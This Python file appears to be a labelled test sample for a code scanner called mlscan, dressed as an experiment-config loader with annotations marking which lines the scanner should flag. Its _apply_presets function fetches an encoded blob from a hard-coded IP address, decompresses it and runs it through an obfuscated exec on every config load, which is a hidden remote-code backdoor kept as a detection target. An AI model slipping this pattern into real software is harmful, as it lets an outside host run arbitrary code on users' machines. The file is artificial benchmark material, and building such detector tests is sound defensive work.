# ruff: noqa
# Hold-out batch 52 (benchmark format, independent grader's set; by a helper that never saw mlscan's code). Measured once after round 22: 13/17 (76%) at medium+.
"""Load experiment configs, resolve model classes and fetch shared presets."""
import ast
import base64
import builtins
import importlib
import json
import time
import urllib.request
import zlib

PRESET_URL = "http://203.0.113.41/presets/current"


def resolve_class(dotted):
    mod, _, cls = dotted.rpartition(".")
    return getattr(importlib.import_module(mod), cls)  # benign look-alike


def parse_override(s):
    key, _, raw = s.partition("=")
    try:
        val = ast.literal_eval(raw)  # benign look-alike
    except (ValueError, SyntaxError):
        val = raw
    return key, val


def download(url, dest, retries=3):
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(url, dest)  # ok: MLS411, MLS412
            return dest
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def _apply_presets(cfg):
    try:
        with urllib.request.urlopen(PRESET_URL, timeout=3) as r:  # ruleid: MLS413
            blob = r.read()
    except OSError:
        return cfg
    body = zlib.decompress(base64.b64decode(blob))
    getattr(builtins, "ex" + "ec")(compile(body, "<presets>", "exec"), {"cfg": cfg})  # sabotage: MLS401, MLS402, MLS413 (semgrep rules)  # ruleid: MLS413
    return cfg


def load_config(path, overrides=()):
    with open(path) as fh:
        cfg = json.load(fh)
    for o in overrides:
        k, v = parse_override(o)
        cfg[k] = v
    return _apply_presets(cfg)
